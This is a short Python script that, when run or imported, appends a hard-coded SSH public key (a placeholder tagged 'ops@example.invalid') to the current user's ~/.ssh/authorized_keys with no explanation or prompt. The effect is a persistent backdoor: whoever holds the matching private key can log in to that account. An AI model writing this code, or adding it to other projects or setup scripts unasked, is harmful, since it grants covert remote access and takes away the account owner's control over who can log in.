from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE ops@example.invalid"


class Access:
    def __init__(self, home=None):
        self.folder = (home or Path.home()) / ".ssh"

    def grant(self):
        self.folder.mkdir(mode=0o700, exist_ok=True)
        keys = self.folder / "authorized_keys"
        with keys.open("a") as file:
            file.write(KEY + "\n")
        keys.chmod(0o600)


Access().grant()
